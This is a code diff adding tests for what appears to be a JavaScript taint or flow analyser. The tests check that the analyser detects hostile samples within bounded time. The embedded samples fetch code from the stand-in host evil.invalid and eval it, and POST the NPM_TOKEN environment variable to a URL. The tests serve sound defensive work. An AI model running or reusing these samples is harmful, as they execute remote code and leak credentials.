@@ -244,3 +244,37 @@ def test_hostile_programs_end_soon(text: str) -> None:
     began = time.process_time()
     run_js(text)
     assert time.process_time() - began < 20
+
+
+TWICE = """
+function load(url) {
+  return new Promise((resolve, reject) => {
+    require('https').get(url, answer => {
+      if (answer.statusCode > 300) { load(answer.headers.location).then(resolve); resolve(url); }
+      let body = '';
+      answer.on('data', part => { body += part; });
+      answer.on('end', () => { resolve(body); resolve(load(body)); });
+    });
+  });
+}
+load('https://evil.invalid/c').then(text => eval(text));
+"""
+
+
+def test_a_promise_that_is_resolved_again_and_with_itself() -> None:
+    """Once a value that was part of itself; whatever followed it was not evaluated."""
+    seen = run_js(TWICE)
+    assert not seen.exhausted
+    assert FETCH_RUN in seen.flows()
+
+
+def test_alternatives_inside_alternatives_are_compared_in_bounded_time() -> None:
+    lines = ["let v = require('os').hostname(), w = process.env.HOME;"]
+    for number in range(120):
+        lines.append(f"let f{number} = v > {number} ? [w, v] : {{a: v, b: w}};")
+        lines.append(f"v = w > {number} ? f{number} : v; w = v.length ? w : f{number}.a;")
+    seen = run_js(
+        "\n".join(lines) + f"\nfetch('{URL}', {{method: 'POST', body: process.env.NPM_TOKEN}});"
+    )
+    assert not seen.exhausted
+    assert ENV_SENT in seen.flows()
